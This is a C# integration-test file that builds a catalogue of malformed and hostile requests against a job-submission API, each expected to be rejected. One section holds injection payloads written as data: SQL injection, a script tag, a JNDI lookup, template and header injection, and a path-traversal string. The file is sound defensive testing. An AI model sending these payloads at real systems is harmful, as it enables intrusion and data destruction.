using System.Globalization;
using System.Text;

namespace Prism.IntegrationTests.Security;

/// <summary>
/// Requests no correct client sends, grouped by what they attack. Every one must get a 4xx
/// problem+json and publish nothing. Names are unique: they are the theory's data.
/// </summary>
public static class HostileCorpus
{
    private const string Jobs = "/api/v1/jobs";
    private const string Alias = "/api/v1/pixels/entropy";
    private const string Batch = "/api/v1/jobs/batch";

    public const string ValidInput = """{"width":3,"height":2,"pixels":[1,2,3,4,5,6],"window":3,"bins":4}""";
    public static readonly string ValidEnvelope = $$"""{"kind":"pixels.entropy","input":{{ValidInput}}}""";

    public static IReadOnlyDictionary<string, HostileRequest> Cases { get; } = Build().ToDictionary(c => c.Name, StringComparer.Ordinal);

    private static IEnumerable<HostileRequest> Build()
    {
        foreach (var c in MalformedJson()) yield return c;
        foreach (var c in Truncated()) yield return c;
        foreach (var c in WrongTypes()) yield return c;
        foreach (var c in HugeAndSpecialNumbers()) yield return c;
        foreach (var c in Dimensions()) yield return c;
        foreach (var c in Nesting()) yield return c;
        foreach (var c in Oversized()) yield return c;
        foreach (var c in ContentTypes()) yield return c;
        foreach (var c in UnknownKindsAndFields()) yield return c;
        foreach (var c in UnicodeAndInjection()) yield return c;
        foreach (var c in HeaderAbuse()) yield return c;
        foreach (var c in Batches()) yield return c;
        foreach (var c in OtherKinds()) yield return c;
    }

    private static HostileRequest Post(string name, string path, string body, string? contentType = "application/json") =>
        new(name, path, Encoding.UTF8.GetBytes(body), contentType);

    private static IEnumerable<HostileRequest> MalformedJson()
    {
        string[] bodies =
        [
            "", " ", "{", "}", "[", "{]", "{\"kind\"}", "{\"kind\":}", "{\"kind\":\"pixels.entropy\",}", "{'kind':'pixels.entropy'}",
            "{kind:\"pixels.entropy\"}", "null", "true", "42", "\"pixels.entropy\"", "{\"a\":1}{\"b\":2}", "{\"kind\":\"pixels.entropy\" \"input\":{}}",
            "{\"kind\":\"pixels.entropy\",\"input\":{}} trailing", "/* comment */ {}", "{\"kind\":\"\\x41\"}", "{\"kind\":\"\\ud800\"}", "\u0000",
            "{\"input\":{\"width\":01}}", "{\"input\":{\"width\":+1}}", "{\"input\":{\"width\":.5}}",
        ];
        for (var i = 0; i < bodies.Length; i++)
        {
            yield return Post($"malformed-json-{i:D2}-envelope", Jobs, bodies[i]);
            yield return Post($"malformed-json-{i:D2}-alias", Alias, bodies[i]);
        }
        yield return new HostileRequest("malformed-json-invalid-utf8", Jobs, [0x7B, 0x22, 0xC3, 0x28, 0x22, 0x3A, 0x31, 0x7D]);
        yield return new HostileRequest("malformed-json-utf16-bom", Jobs, [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(ValidEnvelope)]);
    }

    private static IEnumerable<HostileRequest> Truncated()
    {
        foreach (var fraction in new[] { 0.1, 0.25, 0.5, 0.75, 0.9, 0.99 })
        {
            var cut = (int)(ValidEnvelope.Length * fraction);
            yield return Post($"truncated-envelope-at-{cut}", Jobs, ValidEnvelope[..cut]);
            var aliasCut = (int)(ValidInput.Length * fraction);
            yield return Post($"truncated-alias-at-{aliasCut}", Alias, ValidInput[..aliasCut]);
        }
    }

    private static IEnumerable<HostileRequest> WrongTypes()
    {
        string[] fields = ["width", "height", "pixels", "window", "bins"];
        string[] values = ["\"3\"", "true", "null", "{}", "[3]", "3.5", "\"\""];
        foreach (var field in fields)
        {
            for (var v = 0; v < values.Length; v++)
            {
                if (field == "pixels" && values[v] == "[3]") continue; // a wrong length, covered below
                yield return Post($"wrong-type-{field}-{v}", Alias, Replace(ValidInput, field, values[v]));
            }
        }
        yield return Post("wrong-type-pixels-strings", Alias, Replace(ValidInput, "pixels", "[\"1\",\"2\",\"3\",\"4\",\"5\",\"6\"]"));
        yield return Post("wrong-type-pixels-nested", Alias, Replace(ValidInput, "pixels", "[[1,2,3],[4,5,6]]"));
        yield return Post("wrong-type-input-array", Jobs, "{\"kind\":\"pixels.entropy\",\"input\":[1,2]}");
        yield return Post("wrong-type-input-string", Jobs, "{\"kind\":\"pixels.entropy\",\"input\":\"{}\"}");
        yield return Post("wrong-type-kind-array", Jobs, $$"""{"kind":["pixels.entropy"],"input":{{ValidInput}}}""");
        yield return Post("wrong-type-priority-bool", Jobs, $$"""{"kind":"pixels.entropy","input":{{ValidInput}},"priority":true}""");
        yield return Post("wrong-type-deadline-string", Jobs, $$"""{"kind":"pixels.entropy","input":{{ValidInput}},"deadlineSeconds":"60"}""");
        yield return Post("wrong-type-body-array-envelope", Jobs, $"[{ValidEnvelope}]");
    }

    private static IEnumerable<HostileRequest> HugeAndSpecialNumbers()
    {
        string[] numbers = ["1e400", "-1e400", "99999999999999999999999", "2147483648", "-2147483649", "1e9", "4.9e-324", "-0.0", "1E+2", "0x10"];
        for (var i = 0; i < numbers.Length; i++)
        {
            yield return Post($"huge-number-width-{i}", Alias, Replace(ValidInput, "width", numbers[i]));
        }
        yield return Post("huge-number-pixel", Alias, Replace(ValidInput, "pixels", "[1,2,3,4,5,65536]"));
        yield return Post("negative-pixel", Alias, Replace(ValidInput, "pixels", "[1,2,3,4,5,-1]"));
        yield return Post("fractional-pixel", Alias, Replace(ValidInput, "pixels", "[1,2,3,4,5,0.5]"));
        yield return Post("huge-priority", Jobs, $$"""{"kind":"pixels.entropy","input":{{ValidInput}},"priority":1e300}""");
        yield return Post("negative-priority", Jobs, $$"""{"kind":"pixels.entropy","input":{{ValidInput}},"priority":-1}""");
        yield return Post("zero-deadline", Jobs, $$"""{"kind":"pixels.entropy","input":{{ValidInput}},"deadlineSeconds":0}""");
        yield return Post("enormous-deadline", Jobs, $$"""{"kind":"pixels.entropy","input":{{ValidInput}},"deadlineSeconds":9999999999}""");
        foreach (var special in new[] { "NaN", "Infinity", "-Infinity", "\"NaN\"", "\"Infinity\"" })
        {
            yield return Post($"special-number-width-{special.Trim('"')}{(special.StartsWith('"') ? "-quoted" : "")}", Alias, Replace(ValidInput, "width", special));
            yield return Post($"special-number-pixel-{special.Trim('"')}{(special.StartsWith('"') ? "-quoted" : "")}", Alias, Replace(ValidInput, "pixels", $"[1,2,3,4,5,{special}]"));
        }
    }

    private static IEnumerable<HostileRequest> Dimensions()
    {
        (int W, int H, int Pixels)[] shapes = [(0, 0, 0), (-1, 2, 6), (3, -2, 6), (0, 2, 0), (3, 0, 0), (4097, 1, 4097), (1, 4097, 4097), (2049, 2048, 6), (3, 2, 5), (3, 2, 7), (3, 2, 0), (2, 3, 5)];
        foreach (var (w, h, n) in shapes)
        {
            var pixels = "[" + string.Join(',', Enumerable.Repeat("1", n)) + "]";
            var body = string.Create(CultureInfo.InvariantCulture, $$"""{"width":{{w}},"height":{{h}},"pixels":{{pixels}},"window":3,"bins":4}""");
            yield return Post($"dimensions-{w}x{h}-with-{n}-pixels", Alias, body);
        }
        yield return Post("window-even", Alias, Replace(ValidInput, "window", "4"));
        yield return Post("window-zero", Alias, Replace(ValidInput, "window", "0"));
        yield return Post("window-enormous", Alias, Replace(ValidInput, "window", "1000001"));
        yield return Post("bins-one", Alias, Replace(ValidInput, "bins", "1"));
        yield return Post("bins-enormous", Alias, Replace(ValidInput, "bins", "65536"));
    }

    private static IEnumerable<HostileRequest> Nesting()
    {
        foreach (var depth in new[] { 17, 64, 1000, 20_000 })
        {
            var nested = new string('[', depth) + new string(']', depth);
            yield return Post($"nested-arrays-{depth}-as-body", Jobs, nested);
            yield return Post($"nested-arrays-{depth}-in-input", Jobs, "{\"kind\":\"pixels.entropy\",\"input\":{\"width\":3,\"height\":2,\"pixels\":" + nested + ",\"window\":3,\"bins\":4}}");
        }
        var objects = string.Concat(Enumerable.Repeat("{\"a\":", 40)) + "1" + new string('}', 40);
        yield return Post("nested-objects-40-in-input", Alias, ValidInput.TrimEnd('}') + ",\"extra\":" + objects + "}");
    }

    private static IEnumerable<HostileRequest> Oversized()
    {
        var pixels = string.Join(',', Enumerable.Repeat("65535", SecuredIngestFactory.MaxBodyBytes / 6 + 10));
        var big = $$"""{"width":4096,"height":4096,"pixels":[{{pixels}}],"window":3,"bins":4}""";
        yield return Post("oversized-alias", Alias, big) with { Status = 413 };
        yield return Post("oversized-envelope", Jobs, $$"""{"kind":"pixels.entropy","input":{{big}}}""") with { Status = 413 };
        yield return Post("oversized-chunked", Alias, big) with { Status = 413, Chunked = true };
        yield return Post("oversized-whitespace", Jobs, ValidEnvelope + new string(' ', SecuredIngestFactory.MaxBodyBytes)) with { Status = 413 };
        yield return Post("oversized-string-field", Jobs, "{\"kind\":\"" + new string('x', SecuredIngestFactory.MaxBodyBytes) + "\",\"input\":{}}") with { Status = 413 };
    }

    private static IEnumerable<HostileRequest> ContentTypes()
    {
        string?[] types = [null, "text/plain", "application/xml", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", "application/jsonx", "json", "text/json-ish", "application/octet-stream", "image/png"];
        for (var i = 0; i < types.Length; i++)
        {
            yield return Post($"content-type-{i}-{(types[i] ?? "none").Split(';')[0].Replace('/', '_')}", Jobs, ValidEnvelope, types[i]) with { Status = 415 };
        }
        yield return Post("content-type-alias-text", Alias, ValidInput, "text/plain") with { Status = 415 };
        yield return Post("content-type-batch-xml", Batch, $"[{ValidEnvelope}]", "application/xml") with { Status = 415 };
    }

    private static IEnumerable<HostileRequest> UnknownKindsAndFields()
    {
        string[] kinds = ["pixels.blur", "", " pixels.entropy", "PIXELS.ENTROPY", "pixels", "pixels.entropy.v2", "../../etc/passwd", "pixels.entropy\\u0000", "pixels/entropy"];
        for (var i = 0; i < kinds.Length; i++)
        {
            yield return Post($"unknown-kind-{i}", Jobs, $$"""{"kind":"{{kinds[i]}}","input":{{ValidInput}}}""");
        }
        yield return Post("unknown-field-envelope", Jobs, $$"""{"kind":"pixels.entropy","input":{{ValidInput}},"tenantId":"other"}""");
        yield return Post("unknown-field-input", Alias, ValidInput.TrimEnd('}') + ",\"threshold\":1}");
        yield return Post("duplicate-field-width", Alias, ValidInput.TrimEnd('}') + ",\"width\":4096}");
        yield return Post("missing-every-field", Alias, "{}");
        yield return Post("unknown-route-kind", "/api/v1/pixels/blur", ValidInput) with { Status = 404 };
    }

    private static IEnumerable<HostileRequest> UnicodeAndInjection()
    {
        string[] strings =
        [
            "'; DROP TABLE prism_jobs;--", "\" OR 1=1 --", "<script>alert(1)</script>", "${jndi:ldap://example.invalid/a}", "{{7*7}}",
            "\u202Epixels.entropy", "pixels.entropy\u200B", "🙂", "\\u0000", "%00", "pixels.entropy\\r\\nX-Injected: 1", "ｐｉｘｅｌｓ.ｅｎｔｒｏｐｙ",
        ];
        for (var i = 0; i < strings.Length; i++)
        {
            var json = System.Text.Json.JsonSerializer.Serialize(strings[i]);
            yield return Post($"injection-kind-{i}", Jobs, $$"""{"kind":{{json}},"input":{{ValidInput}}}""");
            yield return Post($"injection-field-name-{i}", Alias, ValidInput.TrimEnd('}') + $",{json}:1}}");
        }
    }

    private static IEnumerable<HostileRequest> HeaderAbuse()
    {
        yield return Post("header-no-key", Jobs, ValidEnvelope) with { ApiKey = "", Status = 401 };
        yield return Post("header-unknown-key", Jobs, ValidEnvelope) with { ApiKey = TestKeys.Unknown, Status = 401 };
        yield return Post("header-read-key-submits", Jobs, ValidEnvelope) with { ApiKey = TestKeys.ReadA, Status = 403 };
        yield return Post("header-key-hash-as-key", Jobs, ValidEnvelope) with { ApiKey = TestKeys.Sha256Hex(TestKeys.SubmitA), Status = 401 };
        yield return Post("header-bearer-empty", Jobs, ValidEnvelope) with { ApiKey = "", Headers = [("Authorization", "Bearer ")], Status = 401 };
        yield return Post("header-basic-auth", Jobs, ValidEnvelope) with { ApiKey = "", Headers = [("Authorization", "Basic YWRtaW46YWRtaW4=")], Status = 401 };
        yield return Post("header-two-api-keys", Jobs, ValidEnvelope) with { ApiKey = "", Headers = [("X-API-Key", TestKeys.SubmitA), ("X-API-Key", TestKeys.Admin)], Status = 401 };
        yield return Post("header-key-with-suffix", Jobs, ValidEnvelope) with { ApiKey = TestKeys.SubmitA + "x", Status = 401 };
        yield return Post("header-key-prefix", Jobs, ValidEnvelope) with { ApiKey = TestKeys.SubmitA[..^1], Status = 401 };
        yield return Post("header-huge-key", Jobs, ValidEnvelope) with { ApiKey = new string('k', 16_000), Status = 401 };
        yield return Post("header-idempotency-key-too-long", Jobs, ValidEnvelope) with { Headers = [("Idempotency-Key", new string('i', 201))], Status = 400 };
        yield return Post("header-charset-garbage-with-bad-body", Jobs, "{", "application/json; charset=x-unknown");
        yield return Post("header-wrong-method-get", Jobs, "") with { Method = "GET", Status = 405 };
        yield return Post("header-wrong-method-put", Alias, ValidInput) with { Method = "PUT", Status = 405 };
    }

    private static IEnumerable<HostileRequest> Batches()
    {
        yield return Post("batch-empty", Batch, "[]");
        yield return Post("batch-object", Batch, ValidEnvelope);
        yield return Post("batch-too-many", Batch, "[" + string.Join(',', Enumerable.Repeat(ValidEnvelope, SecuredIngestFactory.MaxBatchSize + 1)) + "]");
        yield return Post("batch-one-bad-item", Batch, "[" + ValidEnvelope + ",{\"kind\":\"pixels.entropy\",\"input\":{\"width\":-1}}]");
        yield return Post("batch-nulls", Batch, "[null,null]");
        yield return Post("batch-nested", Batch, $"[[{ValidEnvelope}]]");
        yield return Post("batch-truncated", Batch, $"[{ValidEnvelope},{ValidEnvelope}"[..^5]);
    }

    private static IEnumerable<HostileRequest> OtherKinds()
    {
        (string Path, string Body)[] bodies =
        [
            ("/api/v1/pixels/segment", """{"width":2,"height":2,"pixels":[1,2,3],"threshold":1}"""),
            ("/api/v1/timeseries/forecast", """{"series":[[1,2,3]],"horizon":-1}"""),
            ("/api/v1/finance/risk", """{"returns":[[0.1,NaN]]}"""),
            ("/api/v1/finance/optimize", """{"returns":[]}"""),
            ("/api/v1/graph/color", """{"vertexCount":-5,"edges":[[0,1]]}"""),
            ("/api/v1/graph/color", """{"vertexCount":3,"edges":[[0,99]]}"""),
            ("/api/v1/telecom/optimize", """{"nodes":[],"links":[],"demands":[{}]}"""),
            ("/api/v1/robotics/plan", """{"start":[0,0],"goal":[1e400,0]}"""),
            ("/api/v1/pwsa/detect", """{"frames":[]}"""),
            ("/api/v1/pwsa/fuse", """{"measurements":"none"}"""),
            ("/api/v1/causal/transfer-entropy", """{"series":[[1],[1,2]]}"""),
        ];
        for (var i = 0; i < bodies.Length; i++)
        {
            yield return Post($"other-kind-{i:D2}-{bodies[i].Path["/api/v1/".Length..].Replace('/', '-')}", bodies[i].Path, bodies[i].Body);
        }
    }

    /// <summary>Replaces the value of a top-level field of <see cref="ValidInput"/>.</summary>
    public static string Replace(string json, string field, string value)
    {
        var element = System.Text.Json.Nodes.JsonNode.Parse(json)!.AsObject();
        var parts = element.Select(p => p.Key == field ? $"\"{p.Key}\":{value}" : $"\"{p.Key}\":{p.Value!.ToJsonString()}");
        return "{" + string.Join(',', parts) + "}";
    }
}
